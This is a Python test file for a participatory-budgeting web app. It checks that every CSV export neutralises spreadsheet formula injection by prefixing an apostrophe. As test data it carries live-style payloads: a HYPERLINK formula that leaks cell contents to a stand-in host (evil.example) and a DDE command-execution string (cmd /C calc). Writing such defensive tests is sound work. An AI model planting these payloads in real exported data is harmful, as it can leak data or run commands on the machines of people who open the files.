"""Finding 2 of the security review (issue 12): CSV formula injection.

A resident's proposal title ``=HYPERLINK(...)`` came out raw in the anonymous download
``/pb/m/seoul-geumcheon-gu/2021/results.csv`` and ran as a formula when an official opened the
file in Excel. Every CSV Maeul writes now goes through one writer (``maeul.engine.csvcells``):
a text cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a leading
apostrophe; numbers of numeric columns — negative ones too — stay plain numbers.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from maeul.budgeting import services as budgeting
from maeul.budgeting.models import Phase, ProposalStatus
from maeul.engine.csvcells import FORMULA_TRIGGERS, neutralise, restore
from maeul.engine.sortition import (
    FeatureQuota,
    Person,
    parse_features,
    parse_people,
    write_features_csv,
    write_people_csv,
)
from maeul.exports.columns import DECIMAL, INTEGER, PERCENT, TEXT, WON, Column
from maeul.exports.writers import to_csv
from maeul.voting import services as voting
from tests.budgeting.conftest import advance_to, cycle, manager, resident, setup_cycle, submit
from tests.voting.conftest import make_poll, option_ids, voter

__all__ = ["cycle", "make_poll", "manager", "resident", "setup_cycle", "voter"]  # fixtures

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"자세히")'
NASTY = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'=already quoted"]
REPO = Path(__file__).resolve().parents[2]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _no_formula_cell(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert cell[:1] not in FORMULA_TRIGGERS or re.fullmatch(r"-\d+(\.\d+)?", cell), cell


def test_published_pb_result_csv_neutralises_a_residents_formula_title(
    cycle: Any, manager: Any, resident: Any
) -> None:
    """The reviewer's case: anonymous download of a published result with a formula title."""
    proposal = submit(cycle, resident, title=HYPERLINK, cost=50_000_000)
    other = submit(cycle, resident, title="-가산동 공원", cost=40_000_000)
    cycle = advance_to(cycle, manager, Phase.SCREENING)
    for p in (proposal, other):
        budgeting.proposal_screen(
            actor=manager, proposal=p, decision=ProposalStatus.FEASIBLE, department="공원녹지과"
        )
    cycle = advance_to(cycle, manager, Phase.VOTING)
    budgeting.vote_counts_record(
        actor=manager,
        cycle=cycle,
        committee_voters=10,
        mobile_voters=100,
        counts={proposal.number: (6, 70), other.number: (4, 30)},
    )
    cycle = advance_to(cycle, manager, Phase.RESULTS)
    run = budgeting.result_compute(actor=manager, cycle=cycle)
    budgeting.result_publish(actor=manager, run=run)

    url = reverse("budgeting:result_export", args=["seoul-geumcheon-gu", 2021, "csv"])
    assert url == "/pb/m/seoul-geumcheon-gu/2021/results.csv"
    response = Client().get(url)  # anonymous
    assert response.status_code == 200
    rows = _cells(response.content.decode("utf-8"))
    header, body = rows[0], {row[0]: row for row in rows[1:]}
    title = header.index("title")
    assert body[str(proposal.number)][title] == "'" + HYPERLINK
    assert body[str(other.number)][title] == "'-가산동 공원"
    assert body[str(proposal.number)][header.index("cost_won")] == "50000000"
    _no_formula_cell(rows)

    # The same title in the XLSX download is a text cell, never a formula.
    xlsx = Client().get(url.replace(".csv", ".xlsx"))
    sheet = load_workbook(io.BytesIO(xlsx.content)).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if c.value == HYPERLINK]
    assert cells and all(c.data_type == "s" for c in cells)


def test_poll_results_download_neutralises_option_labels(
    make_poll: Any, voter: Any, manager: Any, time_machine: Any
) -> None:
    import datetime as dt

    from django.utils import timezone

    poll = make_poll(
        options=("=1+1", "@SUM(A1)", "-2+3"),
        title="+cmd|' /C calc'!A0",
        closes_at=timezone.now() + dt.timedelta(minutes=5),
    )
    voting.ballot_cast(voter=voter, poll=poll, choices=[option_ids(poll)[2]])
    time_machine.move_to(poll.closes_at + dt.timedelta(minutes=1))
    voting.poll_publish(actor=manager, poll=poll)
    response = Client().get(f"/votes/{poll.pk}/results.csv")
    rows = _cells(response.content.decode("utf-8"))
    header = rows[0]
    assert [r[header.index("option")] for r in rows[1:]] == ["'=1+1", "'@SUM(A1)", "'-2+3"]
    assert {r[header.index("poll_title")] for r in rows[1:]} == {"'+cmd|' /C calc'!A0"}
    assert [r[header.index("votes")] for r in rows[1:]] == ["0", "0", "1"]
    assert [r[header.index("share_percent")] for r in rows[1:]] == ["0.0", "0.0", "100.0"]
    _no_formula_cell(rows)


def test_text_is_neutralised_and_numbers_stay_numbers() -> None:
    columns = (
        Column("label", TEXT, "이름", "Label"),
        Column("n", INTEGER, "수", "Number"),
        Column("amount", WON, "금액", "Amount"),
        Column("ratio", DECIMAL, "비율", "Ratio"),
        Column("rate", PERCENT, "율", "Rate"),
    )
    rows = [[text, -5, -1_000, "-0.25", "-3.5"] for text in NASTY] + [["plain", 7, 0, 1, ""]]
    out = _cells(to_csv(columns, rows))
    assert [r[0] for r in out[1:]] == [
        "'" + HYPERLINK,
        "'+1+1",
        "'-2+3",
        "'@SUM(A1:A9)",
        "'\t=1+1",
        "'\r=1+1",
        "''=already quoted",
        "plain",
    ]
    assert out[1][1:] == ["-5", "-1000", "-0.25", "-3.5"]
    assert out[-1][1:] == ["7", "0", "1", ""]
    # A number given as text in a text column is text, and follows the rule too.
    assert _cells(to_csv(columns[:1], [["-5"]]))[1] == ["'-5"]


@given(st.text())
def test_the_rule_is_reversible_and_leaves_no_formula(text: str) -> None:
    written = neutralise(text)
    assert restore(written) == text
    assert written[:1] not in FORMULA_TRIGGERS


def test_jury_record_files_are_neutralised_and_replay_reads_them_back() -> None:
    """The jury draw's public files go through the same writer and read back exactly."""
    quotas = [
        FeatureQuota("age", "-29", 0, 1),
        FeatureQuota("age", "30+", 0, 1),
        FeatureQuota("=dong", "@가산동", 0, 2),
    ]
    people = [
        Person("=p1", {"age": "-29", "=dong": "@가산동"}, extra={"note": "+82"}),
        Person("p2", {"age": "30+", "=dong": "@가산동"}, extra={"note": "ok"}),
    ]
    features_out, people_out = io.StringIO(), io.StringIO()
    write_features_csv(features_out, quotas)
    write_people_csv(people_out, people)
    _no_formula_cell(_cells(features_out.getvalue()))
    _no_formula_cell(_cells(people_out.getvalue()))
    assert parse_features(features_out.getvalue()) == quotas
    again = parse_people(people_out.getvalue(), quotas)
    assert [(p.id, dict(p.features), dict(p.extra)) for p in again] == [
        (p.id, dict(p.features), dict(p.extra)) for p in people
    ]


def test_every_csv_is_written_by_the_one_writer() -> None:
    """No module writes CSV by itself: ``csv.writer`` appears only in the one writer and in
    the Pabulib ``.pb`` writer (a research format read by other tools, served as text/plain,
    that must keep names byte for byte)."""
    allowed = {"maeul/engine/csvcells.py", "maeul/engine/budgeting/pabulib.py"}
    found = {
        str(path.relative_to(REPO))
        for path in (REPO / "maeul").rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    }
    assert found <= allowed, found - allowed
    serving = {
        str(path.relative_to(REPO))
        for path in (REPO / "maeul").rglob("*.py")
        if "text/csv" in path.read_text(encoding="utf-8")
    }
    # Views answering text/csv either use the exports writer's content types or the jury
    # record, whose files come from the engine's writer (checked above).
    assert serving <= {"maeul/exports/writers.py", "maeul/juries/views/draw.py"}, serving


@pytest.mark.parametrize("text", NASTY)
def test_neutralised_cells_show_the_original_text_after_one_apostrophe(text: str) -> None:
    assert neutralise(text) == "'" + text
